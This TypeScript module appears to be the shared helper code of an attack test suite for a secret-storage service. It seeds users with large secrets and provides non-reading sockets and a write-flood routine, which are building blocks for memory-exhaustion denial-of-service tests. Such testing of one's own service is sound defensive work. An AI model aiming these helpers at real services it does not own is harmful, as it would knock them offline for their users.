import { once } from "node:events";
import { request } from "node:http";
import { connect, type Socket } from "node:net";

/** The service under attack, and what its attackers have. */
export interface Target {
  readonly host: string;
  readonly port: number;
  /** Tokens of three ordinary users, each with the secrets of `fill`. */
  readonly tokens: readonly string[];
}

export const secretBytes = 60_000;

/** With 60 KB each, one page of the largest size. */
export const secretsOfUser = 52;

export const path = {
  list: "/secret.v1.SecretService/ListSecrets",
  save: "/secret.v1.SecretService/SaveSecrets",
  watch: "/secret.v1.SecretService/WatchSecrets",
  whoAmI: "/secret.v1.IdentityService/WhoAmI",
  sealingKey: "/secret.v1.SecretService/GetSealingKey",
} as const;

/** A list of everything that a user may see, with values. */
export const listAll = JSON.stringify({ view: "SECRET_VIEW_FULL", pageSize: 1000 });

export const callTimeoutMs = 10_000;

export interface Answer {
  readonly status: number;
  readonly body: Record<string, unknown>;
}

/** Calls a method with JSON, each time on a new connection. */
export function call(target: Pick<Target, "host" | "port">, method: string, token: string, body: unknown) {
  return new Promise<Answer>((resolve, reject) => {
    const headers = { "content-type": "application/json", authorization: `Bearer ${token}` };
    const { host, port } = target;
    const sent = request({ host, port, path: method, method: "POST", headers, agent: false }, (response) => {
      let text = "";
      response.setEncoding("utf8").on("data", (more: string) => {
        text += more;
      });
      response.on("end", () =>
        resolve({ status: response.statusCode ?? 0, body: text === "" ? {} : JSON.parse(text) }),
      );
      response.on("error", reject);
    });
    sent.on("error", reject);
    sent.setTimeout(callTimeoutMs, () => sent.destroy(new Error("the service does not answer")));
    sent.end(JSON.stringify(body));
  });
}

/** Makes three users with secrets. Answers their tokens. */
export async function fill(target: Pick<Target, "host" | "port">, adminToken: string): Promise<readonly string[]> {
  const tokens: string[] = [];
  for (const slug of ["lowly-1", "lowly-2", "lowly-3"]) {
    await call(target, "/secret.v1.IdentityService/SaveUsers", adminToken, { users: [{ slug, reuse: true }] });
    const made = await call(target, "/secret.v1.IdentityService/CreateToken", adminToken, { slug });
    const token = String(made.body.secret);
    for (let at = 0; at < secretsOfUser; at += 1) {
      const secrets = [{ key: `${slug}/${at}`, value: "v".repeat(secretBytes) }];
      const saved = await call(target, path.save, token, { secrets });
      if (saved.status !== 200) throw new Error(`the attack could not be prepared: ${JSON.stringify(saved.body)}`);
    }
    tokens.push(token);
  }
  return tokens;
}

/** A connection that reads nothing by default. Ends with the attack. */
export async function open(target: Target, signal: AbortSignal, from = "127.0.0.1"): Promise<Socket> {
  const socket = connect({ host: target.host, port: target.port, localAddress: from });
  socket.on("error", () => socket.destroy());
  signal.addEventListener("abort", () => socket.destroy(), { once: true });
  socket.pause();
  await Promise.race([once(socket, "connect"), once(socket, "close")]);
  return socket;
}

/** Waits, but not longer than the attack. */
export function pause(ms: number, signal: AbortSignal): Promise<void> {
  if (signal.aborted) return Promise.resolve();
  return new Promise((resolve) => {
    const timer = setTimeout(resolve, ms);
    signal.addEventListener(
      "abort",
      () => {
        clearTimeout(timer);
        resolve();
      },
      { once: true },
    );
  });
}

/** Waits until what was written has left, or a second at most. */
export function drained(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    const done = () => {
      clearTimeout(timer);
      socket.off("drain", done).off("close", done);
      resolve();
    };
    const timer = setTimeout(done, 1000);
    socket.once("drain", done).once("close", done);
  });
}

/** Writes until the connection is closed or the attack ends, as fast as the service reads. */
export async function flood(socket: Socket, bytes: Uint8Array, signal: AbortSignal): Promise<void> {
  while (!signal.aborted && socket.writable) {
    // A service that does not read must not fill the memory of its attacker.
    if (socket.writableNeedDrain || !socket.write(bytes)) await drained(socket);
  }
}
